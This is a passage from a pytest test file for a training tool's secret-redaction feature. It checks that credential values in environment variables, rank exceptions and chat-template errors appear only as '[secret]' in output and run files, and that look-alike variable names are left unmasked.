         "data.validation=null", "tracker=off"],
        capture_output=True, timeout=200, check=False,
    )  # fmt: skip
    assert done.returncode == 1 and b"Traceback" in done.stderr and b"[secret]" in done.stderr
    files = [path for path in (tmp_path / "runs").rglob("*") if path.is_file()]
    written = b"".join([done.stdout, done.stderr, *(path.read_bytes() for path in files)])
    assert [s for s in secret_shapes() if essence(s).encode() in written] == []


def test_no_secret_in_the_text_of_a_ranks_exception_is_written_anywhere(
    lab: Path, tmp_path: Path
) -> None:
    """A library of a rank raises with all 25 in its words: its model's activation is named so."""
    base = base_that_fails(lab, tmp_path)
    code, written = under_ray(lab, tmp_path, "launch.workers=2", f"model.path={base}")
    assert code == 5, written[-3000:].decode(errors="replace")
    assert b"a rank failed: " in written and b"[secret]" in written
    assert [s for s in secret_shapes() if essence(s).encode() in written] == []


def test_no_secret_that_a_chat_template_quotes_is_written_anywhere(
    lab: Path, tmp_path: Path
) -> None:
    """An error of ours, with a row in it, goes round by the token cache too."""
    base = shutil.copytree(lab / "base", tmp_path / "base")
    (base / "chat_template.jinja").write_text("{{ raise_exception(messages[0]['content']) }}")
    code, written = under_ray(lab, tmp_path, "launch.workers=1", f"model.path={base}")
    assert code == 3 and b"cannot render this chat: [secret]" in written
    assert list((tmp_path / "runs").rglob("error.json"))
    assert [s for s in secret_shapes() if essence(s).encode() in written] == []


def test_an_error_that_quotes_a_secret_does_not_show_it(
    capsys: pytest.CaptureFixture[str],
) -> None:
    secret = secret_shapes()[0]
    assert cli.main(["train", f"model.path={secret}", "data.path=/nowhere"]) == 2
    said = capsys.readouterr()
    assert "[secret]" in said.err
    assert secret not in said.out + said.err


SAID = "import sys; from tuneloom.redact import redact; print(redact(sys.argv[1]))"


@pytest.mark.parametrize("secret", ["/w3x9Qz+t0pSecret==", "a tenant's key, kept apart"])
@pytest.mark.parametrize(
    "name",
    [
        "DB_PASSWORD",
        "TUNELOOM_PSEUDONYM_KEY",
        "SSH_PASSPHRASE",
        "PRIVATE_KEY",
        "DB_PASS",
        "PGPASSWORD",
        "MYSQL_PWD",
        "OPENAI_KEY",
        "AZURE_STORAGE_KEY",
        "REDIS_AUTH",
        "MY_APIKEY2",
        "GIT_CREDENTIALS",
    ],
)
def test_the_value_of_a_secret_variable_is_masked_and_the_name_of_a_file_is_not(
    name: str, secret: str, tmp_path: Path
) -> None:
    environment = os.environ | {"API_TOKEN": str(tmp_path), name: secret}
    done = subprocess.run(
        [sys.executable, "-c", SAID, f"no {secret} in {tmp_path}"],
        env=environment, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert done.stdout == f"no [secret] in {tmp_path}\n"


@pytest.mark.parametrize(
    "name",
    ["TOKENIZER_NAME", "API_TOKEN_FILE", "SSH_AUTH_SOCK", "KEY_MODE", "PWD", "AUTHOR", "MONKEY"],
)
def test_a_variable_that_only_sounds_like_a_secret_is_none(name: str, tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-c", SAID, "the value stays"],
        env=os.environ | {name: "the value"}, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert done.stdout == "the value stays\n"
    (tmp_path / "mine.yaml").write_text("a: ${oc.env:" + name + "}")
    check_file(tmp_path / "mine.yaml")


def test_a_path_that_the_record_would_mask_is_refused_with_the_variable_that_is_in_it(
    tmp_path: Path,
) -> None:
    command = ["-m", "tuneloom", "train", "data.path=datasets/postgres_faq", "model.path=base"]
    done = subprocess.run(
        [sys.executable, *command, f"run.root={tmp_path}"],
        env=os.environ | {"DB_PASS": "postgres"}, capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 2 and list(tmp_path.iterdir()) == []
    assert "data.path: datasets/[secret]_faq holds the value of DB_PASS" in done.stderr
